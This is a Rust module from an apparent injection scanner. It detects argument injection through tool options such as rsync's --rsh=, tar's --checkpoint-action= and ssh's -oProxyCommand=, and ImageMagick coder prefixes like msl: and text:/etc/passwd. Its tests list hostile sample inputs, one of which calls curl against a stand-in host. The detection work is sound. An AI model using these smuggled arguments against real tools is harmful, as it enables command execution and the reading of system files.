//! Arguments of tools: would a program that gets the text where a file or a host belongs take it for an option that runs
//! something, or for a format that reads what it names?
//!
//! Only the text as a whole is such an argument, and whoever tells about an option goes on.

use super::{Hit, Text, command};
use crate::decision::Class;

pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
    let whole = text.lower.trim_ascii();
    let (first, length) = (*whole.first()?, whole.len());
    if !(5..=256).contains(&length) || memchr::memchr(b'\n', whole).is_some() {
        return None;
    }
    let (class, why) = if first == b'-' {
        (Class::OsCommand, is_option(whole).then_some("an option by which a tool runs a program")?)
    } else if text.bytes.has(b':') {
        (
            Class::PathTraversal,
            is_format(whole).then_some("a format of pictures that reads or writes a file")?,
        )
    } else {
        return None;
    };
    Some(Hit { class, at: 0, why: why.into() })
}

fn is_option(whole: &[u8]) -> bool {
    if let Some(value) = [&b"-e sh "[..], b"-e bash "].iter().find_map(|option| whole.strip_prefix(*option)) {
        return matches!(value.first(), Some(b'-' | b'/' | b'.' | b'~')) && command::is_terse(whole);
    }
    let Some(value) = OPTIONS.iter().find_map(|option| whole.strip_prefix(*option)) else { return false };
    let value = value.trim_ascii_start();
    // What these options are there for.
    let program = value.split(|b| *b == b' ').next().unwrap_or_default();
    !value.is_empty() && !USUAL.contains(&program) && command::is_terse(whole)
}

const OPTIONS: &[&[u8]] = &[
    b"--rsh=",
    b"--rsh-command=",
    b"--rmt-command=",
    b"--to-command=",
    b"--checkpoint-action=",
    b"--use-compress-program=",
    b"--compress-program=",
    b"--info-script=",
    b"--new-volume-script=",
    b"--use-askpass=",
    b"--upload-pack=",
    b"--receive-pack=",
    b"--open-files-in-pager=",
    b"--config=core.sshcommand=",
    b"--config core.sshcommand=",
    b"-c core.sshcommand=",
    b"-ccore.sshcommand=",
    b"-c protocol.ext.allow=",
    b"-oproxycommand=",
    b"-oproxycommand ",
    b"-o proxycommand=",
    b"-olocalcommand=",
    b"-o localcommand=",
    b"-opermitlocalcommand=",
    b"-o permitlocalcommand=",
    b"-oknownhostscommand=",
    b"-opkcs11provider=",
    b"--renderer-cmd-prefix=",
    b"--utility-cmd-prefix=",
    b"--gpu-launcher=",
    b"--browser-subprocess-path=",
    b"--hostname-bin=",
    b"--post-file=/",
];

/// Programs that people give those options, and that do no more than the tool would.
const USUAL: &[&[u8]] = &[
    b"ssh", b"no", b"gzip", b"pigz", b"bzip2", b"pbzip2", b"lbzip2", b"xz", b"pixz", b"zstd", b"zstdmt",
    b"lz4", b"lzop", b"lzma", b"unzstd", b"dot",
];

/// `msl:/tmp/x.msl`, `text:/etc/passwd`, `label:@/etc/passwd`: a coder of ImageMagick and its file, behind others or not.
fn is_format(whole: &[u8]) -> bool {
    let mut rest = whole;
    for _ in 0..3 {
        let Some(colon) = memchr::memchr(b':', rest.get(..12).unwrap_or(rest)) else { return false };
        let (coder, file) = rest.split_at_checked(colon).unwrap_or_default();
        let file = file.get(1..).unwrap_or_default();
        if file.iter().any(u8::is_ascii_whitespace) || file.starts_with(b"//") {
            return false;
        }
        let rooted = |file: &[u8]| matches!(file, [b'/' | b'~', next, ..] if next.is_ascii_alphanumeric());
        match coder {
            b"msl" | b"ephemeral" | b"mvg" => {
                let relative = file.starts_with(b"./") || file.starts_with(b"../");
                return rooted(file) || relative || file.ends_with(b".msl") || file.ends_with(b".mvg");
            }
            b"text" => return rooted(file) && file.iter().filter(|b| **b == b'/').count() > 1,
            b"label" | b"caption" | b"pango" => return file.strip_prefix(b"@").is_some_and(rooted),
            b"vid" | b"fpx" | b"inline" => rest = file,
            _ => return false,
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inject::sample;

    #[test]
    fn arguments_that_act() {
        for text in [
            "--rsh=id",
            "--checkpoint-action=exec=sh shell.sh",
            "-oProxyCommand=curl evil.example",
            "-o ProxyCommand=id",
            "--use-askpass=/tmp/x.sh",
            "--use-compress-program=id",
            "--use-compress-program=sh -c id",
            "-oPermitLocalCommand=yes",
            "--config=core.sshCommand=id",
            "-e sh /tmp/x.sh",
            "--to-command=/tmp/x",
            "msl:/tmp/x.msl",
            "vid:msl:/tmp/x",
            "ephemeral:/etc/passwd",
            "text:/etc/passwd",
            "caption:@/etc/passwd",
        ] {
            assert!(sample(detect, text), "{text}");
        }
    }

    #[test]
    fn options_and_labels_of_everybody() {
        for text in [
            "--rsh=ssh -p 2222",
            "--use-compress-program=zstd -19",
            "--rsh is an option of rsync",
            "--rsh=",
            "-oPermitLocalCommand=no",
            "--help",
            "--config=prod.yaml",
            "-e sh",
            "-o output.txt",
            "--rsh=id is what the scanner sent to us",
            "text:hello",
            "text:/hello",
            "text: /etc/passwd",
            "text://etc/passwd",
            "label:bug",
            "label:@ann",
            "ephemeral:true",
            "msl:1013 hPa",
            "vid:17",
        ] {
            assert!(!sample(detect, text), "{text}");
        }
    }
}
